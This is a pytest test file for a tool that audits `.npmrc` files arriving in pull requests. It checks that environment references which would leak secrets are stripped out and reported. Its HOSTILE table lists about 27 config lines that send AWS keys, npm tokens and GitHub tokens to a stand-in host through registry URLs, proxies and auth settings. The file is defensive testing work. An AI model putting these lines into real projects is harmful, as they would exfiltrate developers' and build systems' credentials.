"""A project's `.npmrc` comes with a pull request: what of the environment it may use, and what it may not."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from audit.sources.lending import lent, trust
from audit.sources.npmrc import parse_npmrc
from audit.sources.settings import Settings

if TYPE_CHECKING:
    from pathlib import Path

ENVIRONMENT = {
    "AWS_SECRET_ACCESS_KEY": "s3cret", "NPM_TOKEN": "t0ken", "NODE_AUTH_TOKEN": "t0ken", "GITHUB_TOKEN": "gh0",
    "DATABASE_URL": "postgres://me:s3cret@db.example/x", "REGISTRY_URL": "https://npm.acme.example/",
    "REGISTRY_HOST": "npm.acme.example", "SITE": "https://me:s3cret@site.example/", "HOME": "/home/someone",
}  # fmt: skip
USER = "@known:registry=https://npm.known.example/\n//npm.bound.example/:_authToken=${NPM_TOKEN}\n"

ORDINARY = {
    "no variable": "registry=https://npm.acme.example/",
    "a token for npm": "@acme:registry=https://npm.acme.example/\n//npm.acme.example/:_authToken=${NODE_AUTH_TOKEN}",
    "the token where the user sends it": "//npm.bound.example/:_authToken=${NPM_TOKEN}",
    "any token to a host of the user's": "//npm.known.example/npm/:_authToken=${GITHUB_TOKEN}",
    "an address from the environment": "registry=${REGISTRY_URL}",
    "an address with a path": "@acme:registry=https://${REGISTRY_HOST}/npm/acme",
    "a host from the environment": "//${REGISTRY_HOST}/:_authToken=${GITHUB_TOKEN}",
    "a file": "cafile=${HOME}/ca.pem",
    "a cache": "cache=${HOME}/.npm",
    "not set": "//npm.acme.example/:_authToken=${UNSET}",
    "kept by a backslash": "registry=https://npm.acme.example/\\${AWS_SECRET_ACCESS_KEY}",
    "in a comment": "# registry=https://collect.invalid/${AWS_SECRET_ACCESS_KEY}",
}
HOSTILE = {
    "in the path": "registry=https://collect.invalid/${AWS_SECRET_ACCESS_KEY}/",
    "in the host": "registry=https://${AWS_SECRET_ACCESS_KEY}.collect.invalid/",
    "in the query": "registry=https://collect.invalid/?x=${NPM_TOKEN}",
    "in the user": "registry=https://${AWS_SECRET_ACCESS_KEY}@collect.invalid/",
    "in a scope's": "@acme:registry=https://collect.invalid/${NPM_TOKEN}",
    "in a proxy": "https-proxy=http://${AWS_SECRET_ACCESS_KEY}:x@collect.invalid:1",
    "in a plain proxy": "proxy=http://collect.invalid/${AWS_SECRET_ACCESS_KEY}",
    "after a host of the environment": "registry=https://${REGISTRY_HOST}/${AWS_SECRET_ACCESS_KEY}",
    "an address that is a secret": "registry=${DATABASE_URL}",
    "an address with a password": "registry=${SITE}",
    "a secret as a host": "registry=https://${AWS_SECRET_ACCESS_KEY}/",
    "optional": "registry=https://collect.invalid/${AWS_SECRET_ACCESS_KEY?}",
    "a credential": "//collect.invalid/:_authToken=${AWS_SECRET_ACCESS_KEY}",
    "a credential with a path": "//collect.invalid/npm/:_auth=${GITHUB_TOKEN}",
    "a password": "//collect.invalid/:_password=${AWS_SECRET_ACCESS_KEY}",
    "a user": "//collect.invalid/:username=${AWS_SECRET_ACCESS_KEY}",
    "part of it": "//collect.invalid/:_authToken=x${AWS_SECRET_ACCESS_KEY}y",
    "two of which one is ordinary": "//collect.invalid/:_authToken=${NODE_AUTH_TOKEN}${GITHUB_TOKEN}",
    "bound elsewhere": "//collect.invalid/:_authToken=${NPM_TOKEN}",
    "in quotes": '//collect.invalid/:_authToken="${AWS_SECRET_ACCESS_KEY}"',
    "an escaped backslash": "registry=https://collect.invalid/\\\\\\\\${AWS_SECRET_ACCESS_KEY}",
    "in a key": "//collect.invalid/${AWS_SECRET_ACCESS_KEY}/:_authToken=x",
    "as a key": "${AWS_SECRET_ACCESS_KEY}=x",
    "a key spelled by another": "//${REGISTRY_HOST}.collect.invalid/:_authToken=${AWS_SECRET_ACCESS_KEY}",
    "another port of a host": "//npm.known.example:444/:_authToken=${GITHUB_TOKEN}",
    "an address in a list": "registry[]=https://collect.invalid/${AWS_SECRET_ACCESS_KEY}",
    "in a list": "//collect.invalid/:_authToken[]=${AWS_SECRET_ACCESS_KEY}",
}  # fmt: skip


@pytest.mark.parametrize("name", ORDINARY)
def test_what_ordinary_projects_write_works(name: str) -> None:
    trusted = trust([parse_npmrc(USER, ENVIRONMENT)], [USER])
    assert lent(ORDINARY[name], ENVIRONMENT, trusted) == (ORDINARY[name], ())


@pytest.mark.parametrize("name", HOSTILE)
def test_what_would_send_a_secret_is_left_out_and_said(name: str) -> None:
    trusted = trust([parse_npmrc(USER, ENVIRONMENT)], [USER])
    before, after = "a=1", "b=${HOME}"
    kept, [said] = lent(f"{before}\n{HOSTILE[name]}\n{after}", ENVIRONMENT, trusted)
    assert kept == f"{before}\n{after}"
    assert "left out" in said
    assert not any(value in said for value in ("s3cret", "t0ken", "gh0"))


def test_the_settings_leave_it_out(project: Path, home: Path) -> None:
    (project / ".npmrc").write_text("\n".join(HOSTILE.values()))
    settings = Settings(
        str(project), environment={**ENVIRONMENT, "HOME": str(home), "PATH": str(home)}
    )
    values = [settings.text(name) for name in settings.names()]
    assert not [value for value in values if "s3cret" in value]
    assert len(settings.refused) > 10


def test_the_users_own_file_says_what_it_likes(home: Path) -> None:
    (home / ".npmrc").write_text("//npm.acme.example/:_authToken=${GITHUB_TOKEN}")
    settings = Settings(
        str(home), environment={**ENVIRONMENT, "HOME": str(home), "PATH": str(home)}
    )
    assert settings.text("//npm.acme.example/:_authToken") == "gh0"
    assert settings.refused == ()


def test_a_registry_of_the_environment_is_known(project: Path, home: Path) -> None:
    (project / ".npmrc").write_text("//npm.acme.example/:_authToken=${GITHUB_TOKEN}")
    environment = {
        **ENVIRONMENT, "HOME": str(home), "PATH": str(home), "npm_config_registry": "https://npm.acme.example/",
    }  # fmt: skip
    assert Settings(str(project), environment=environment).refused == ()
